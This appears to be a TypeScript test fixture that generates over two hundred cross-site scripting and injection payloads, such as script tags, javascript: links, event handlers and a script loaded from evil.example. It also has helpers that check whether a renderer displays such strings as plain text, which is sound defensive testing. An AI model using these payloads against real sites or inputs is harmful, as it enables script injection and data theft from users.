// Texts that would run as a script wherever they are taken for more than text. Each calls `pwned`, `alert`, or asks for
// something from another origin.

const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbegin'];
const elements = [
  (on: string) => `<img src=x ${on}=pwned()>`,
  (on: string) => `<svg ${on}=pwned()>`,
  (on: string) => `<body ${on}=pwned()>`,
  (on: string) => `<details open ${on}="pwned()">x</details>`,
  (on: string) => `<input autofocus ${on}=pwned()>`,
  (on: string) => `<video src=x ${on}=pwned()></video>`,
  (on: string) => `"><iframe ${on}=pwned() src=about:blank></iframe>`,
  (on: string) => `'"><style>@keyframes x{}</style><b style="animation-name:x" ${on}="pwned()">x</b>`,
];

const schemes = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  '\u0001javascript:pwned()',
  ' javascript:pwned()',
  'javascript&colon;pwned()',
  'javascript&#58;pwned()',
  '&#x6A;avascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=pwned()>',
  'vbscript:pwned()',
  'blob:null/pwned',
  'file:///etc/passwd',
  'view-source:javascript:pwned()',
];
const links = [
  (to: string) => `[click](${to})`,
  (to: string) => `[click](<${to}>)`,
  (to: string) => `<${to}>`,
  (to: string) => `![picture](${to})`,
  (to: string) => `[click][1]\n\n[1]: ${to}`,
  (to: string) => `<a href="${to}">click</a>`,
  (to: string) => to,
];

const others = [
  '<script>pwned()</script>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script\u0000>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '<!--><script>pwned()</script>-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '%3Cscript%3Epwned()%3C/script%3E',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '<%= pwned() %>',
  '#{pwned()}',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<form action="javascript:pwned()"><button>go</button></form>',
  '<button formaction="javascript:pwned()">go</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<img src="https://evil.example/pixel.gif">',
  '`<img src=x onerror=pwned()>`',
  '```html\n<script>pwned()</script>\n```',
  '**<img src=x onerror=pwned()>**',
  '> <svg onload=pwned()>',
  '- <img src=x onerror=pwned()>',
  '| a |\n|---|\n| <img src=x onerror=pwned()> |',
  '\u202e<script>pwned()</script>',
  '\u200b<script>pwned()</script>\u200b',
  '\ufeff<script>pwned()</script>',
  'x' + '\u0301'.repeat(500),
  '\u2028<script>pwned()</script>\u2029',
  '<a href="https://x" onclick="pwned()">x</a>',
  'https://example.org/"onmouseover="pwned()',
  "https://example.org/'onmouseover='pwned()",
  'https://example.org/<script>pwned()</script>',
  'https://example.org\u202e/moc.live',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  "';pwned();//",
  '";pwned();//',
];

/** More than two hundred, each once. */
export const HOSTILE: readonly string[] = [
  ...others,
  ...elements.flatMap((element) => handlers.map(element)),
  ...schemes.flatMap((to) => links.map((link) => link(to))),
];

/** What a text shows when it is shown as text: without its spaces, as a browser has spaces of its own. */
export const bare = (text: string): string => text.replace(/[\s\u0000\ufffd]+/g, '');

const ENTITIES: Record<string, string> = { lt: '<', gt: '>', colon: ':' };
const decoded = (text: string): string =>
  text.replace(/&(?:#x([\da-f]+)|#(\d+)|(\w+));/gi, (whole, hex?: string, number?: string, name?: string) => {
    if (hex) return String.fromCodePoint(Number.parseInt(hex, 16));
    return number ? String.fromCodePoint(Number(number)) : (ENTITIES[name ?? ''] ?? whole);
  });

/** Marks of Markdown around a whole text, and what is left of it without them. */
const MARKED = [
  /^```\w*\n([^]*)\n```$/, // code
  /^`(.*)`$/,
  /^\*\*(.*)\*\*$/, // strong
  /^[>-] (.*)$/, // a quotation, a list
  /^!?\[(\w+)\][([]/, // a link or a picture, of which the words are left
  /^<([a-z-]+:[^\s<>]*)>$/i, // an address
];

/** All that a message with this text may look like: as it was written, or as Markdown reads it, without its spaces. */
export function asText(text: string): string[] {
  const read = MARKED.flatMap((marked) => marked.exec(text)?.[1] ?? []);
  return [text, ...read].flatMap((one) => [bare(one), bare(decoded(one))]);
}
